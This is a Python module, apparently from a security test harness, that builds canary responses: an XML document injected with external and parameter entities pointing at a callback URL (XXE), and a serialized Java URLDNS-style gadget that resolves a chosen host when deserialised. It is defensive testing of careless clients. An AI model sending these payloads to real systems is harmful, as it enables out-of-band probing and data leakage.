"""Answers that lead a careless client to the canary host (``cl.deserialise-untrusted``)."""

from __future__ import annotations

import base64
import re

_NAME_IN_GADGET = b"canary-000000000000000000000000.invalid"
_GADGET = base64.b64decode(
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAA"
    "AAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTJYlNzYa/ORyAwAHSQAIaGFzaENvZGVJAARwb3J0TAAJYXV0aG9yaXR5"
    "dAASTGphdmEvbGFuZy9TdHJpbmc7TAAEZmlsZXEAfgADTAAEaG9zdHEAfgADTAAIcHJvdG9jb2xxAH4AA0wAA3JlZnEA"
    "fgADeHD//////////3QAJ2NhbmFyeS0wMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAuaW52YWxpZHQAAS9xAH4ABXQABGh0"
    "dHBweHQABmNhbmFyeXg="
)
"""A ``HashMap`` with a ``java.net.URL`` that has no hash yet: reading it resolves the name."""
_DECLARATION = re.compile(rb"\A\s*<\?xml[^>]*\?>")
_DOCTYPE = re.compile(rb"<!DOCTYPE[^>\[]*(\[[^\]]*\])?\s*>")
_ROOT = re.compile(rb"<([A-Za-z_][\w.:-]*)[^>]*?(/?)>")

XML_TYPE = "application/xml"
OBJECT_TYPE = "application/x-java-serialized-object"


def with_entities(document: bytes, url: str) -> bytes:
    """Give an XML document external entities of an address; anything else becomes such a document.

    One is a parameter entity, which is fetched by parsers that never expand the other.
    """
    text = _DOCTYPE.sub(b"", _DECLARATION.sub(b"", document)).lstrip()
    root = _ROOT.match(text)
    if root is None:
        text, root = b"<answer></answer>", _ROOT.match(b"<answer>")
    assert root is not None  # noqa: S101 - it matches the text above
    end = root.end()
    if root[2]:
        text = text[: end - 2] + b"></" + root[1] + b">" + text[end:]
        end -= 1
    target = url.encode("ascii")
    doctype = (
        b'<?xml version="1.0"?><!DOCTYPE %b [<!ENTITY %% all SYSTEM "%b/dtd">%%all;'
        b'<!ENTITY canary SYSTEM "%b/entity">]>' % (root[1], target, target)
    )
    return doctype + text[:end] + b"&canary;" + text[end:]


def gadget(name: str) -> bytes:
    """Make a serialised Java object that resolves a host name when it is read.

    Args:
        name: As long as :attr:`~harness.backend.faults.canary_host.CanaryHost.name`.
    """
    host = name.encode("ascii")
    assert len(host) == len(_NAME_IN_GADGET)  # noqa: S101 - its length stands before it
    return _GADGET.replace(_NAME_IN_GADGET, host)
